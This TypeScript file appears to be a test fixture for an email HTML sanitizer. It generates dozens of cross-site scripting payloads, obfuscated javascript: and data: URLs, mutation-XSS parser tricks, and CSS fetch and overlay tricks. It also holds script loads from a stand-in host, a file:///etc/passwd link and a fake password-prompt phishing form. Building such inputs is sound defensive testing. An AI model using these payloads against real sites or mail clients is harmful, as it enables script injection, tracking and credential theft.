const RUN = "alert(document.domain)"
const AWAY = "https://vol.example/x"

const HANDLERS = "onclick onload onerror onfocus onmouseover ontoggle onanimationstart onbegin".split(" ")

const ADDRESSES = [
  `javascript:${RUN}`,
  ` JaVaScRiPt:${RUN}`,
  `\u0001javascript:${RUN}`,
  `java\nscript:${RUN}`,
  `java&#10;script:${RUN}`,
  `&#106;&#97;vascript:${RUN}`,
  `javascript&colon;${RUN}`,
  "vbscript:msgbox(1)",
  `data:text/html,<script>${RUN}</script>`,
  "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
  "blob:https://trame.example/1",
  "file:///etc/passwd",
  "//vol.example/x",
  "/api/inbox",
  "#x",
  "?delete=1",
  "https:/\\vol.example",
  "http://[::1",
  "about:srcdoc",
  "view-source:https://vol.example",
  "intent://vol.example#Intent;scheme=https;end",
  "https://moi:secret@vol.example/",
  "mailto:eve@vol.example?bcc=tous@vol.example&body=x",
]

const SINKS = [
  (address: string) => `<a href="${address}">Cliquez</a>`,
  (address: string) => `<img src="${address}" alt="Logo">`,
  (address: string) => `<iframe src="${address}"></iframe>`,
  (address: string) => `<form action="${address}"><button formaction="${address}">Ok</button></form>`,
]

const STYLES = [
  `background:url(${AWAY})`,
  `background:u\\72l(${AWAY})`,
  `background:image-set('${AWAY}' 1x)`,
  `background:/**/url/**/(${AWAY})`,
  "width:expression(alert(1))",
  `-moz-binding:url(${AWAY}#a)`,
  "position:fixed;top:0;left:0;width:100%;height:100%;z-index:9",
  `font-family:x;src:url(${AWAY})`,
  "color:red}</style><script>alert(1)</script>",
  `color:red;@import '${AWAY}'`,
  `background:var(--x,url(${AWAY}))`,
  "margin-top:-400px;position:relative",
]

/** Pieces whose content a browser runs, fetches or follows, each in another way. */
const WHOLE = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=${AWAY}></SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script\n>${RUN}</script\n>`,
  `<svg onload=${RUN}><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<textarea></textarea/><img src=x onerror=${RUN}>`,
  `<plaintext><img src=x onerror=${RUN}>`,
  `<template shadowrootmode=open><img src=x onerror=${RUN}></template>`,
  `<style>@import url(${AWAY});body{display:none}</style>`,
  `<style><!--</style><img src=x onerror=${RUN}>-->`,
  `<link rel=stylesheet href=${AWAY}><link rel=preload as=image href=${AWAY}>`,
  `<meta http-equiv=refresh content="0;url=${AWAY}"><base href=${AWAY}><a href=x>x</a>`,
  `<iframe srcdoc="&lt;script&gt;${RUN}&lt;/script&gt;"></iframe>`,
  `<object data=${AWAY}><param name=movie value=x></object><embed src=${AWAY}>`,
  `<video src=${AWAY} poster=${AWAY} onerror=${RUN}><source src=${AWAY}></video>`,
  `<picture><source srcset=${AWAY}><img srcset="${AWAY} 2x"></picture>`,
  `<img """><script>${RUN}</script>">`,
  `<img src="x\`onerror=${RUN}\`">`,
  `<img/src=x/onerror=${RUN}>`,
  `<image src=${AWAY}><input type=image src=${AWAY}>`,
  `<input autofocus onfocus=${RUN}><details open ontoggle=${RUN}>x</details>`,
  `<dialog open>Votre session a expiré<form action=${AWAY}><input type=password></form></dialog>`,
  `<table background=${AWAY}><td background=${AWAY}>x</table>`,
  `<a href=${AWAY} ping=${AWAY} target=_self rel=opener>x</a>`,
  `<p id=root class="ant-btn ant-modal-mask" data-action=send>x</p>`,
  `<div contenteditable onblur=${RUN} tabindex=1 accesskey=x>x</div>`,
  `<x-element onclick=${RUN}>x</x-element>`,
  `<!--[if gte IE 4]><script>${RUN}</script><![endif]-->`,
  `<!-- --!><img src=x onerror=${RUN}>`,
  `<![CDATA[<script>${RUN}</script>]]><?xml-stylesheet href="${AWAY}"?>`,
  `<p title="--><svg onload=${RUN}>">x</p>`,
  `<a href="https://a.example/&quot;onmouseover=${RUN}">x</a>`,
  `<img alt="<script>${RUN}</script>" src=${AWAY}>`,
  `\u0000<scr\u0000ipt>${RUN}</scr\u0000ipt>`,
  `<div/onmouseover=${RUN}/style=color:red style="position:fixed">x</div>`,
  `${"<b><i><u>".repeat(300)}<script>${RUN}`,
]

/** Mails' pages that try to run, to fetch or to deceive. */
export const hostilePages = (): string[] => [
  ...WHOLE,
  ...HANDLERS.map((handler) => `<img src=${AWAY} ${handler}="${RUN}" ${handler.toUpperCase()}=${RUN}>`),
  ...ADDRESSES.flatMap((address) => SINKS.map((sink) => sink(address))),
  ...STYLES.flatMap((style) => [
    `<div style="${style}">Bonjour</div>`,
    `<style>p{${style}}</style><p>Bonjour</p>`,
  ]),
]
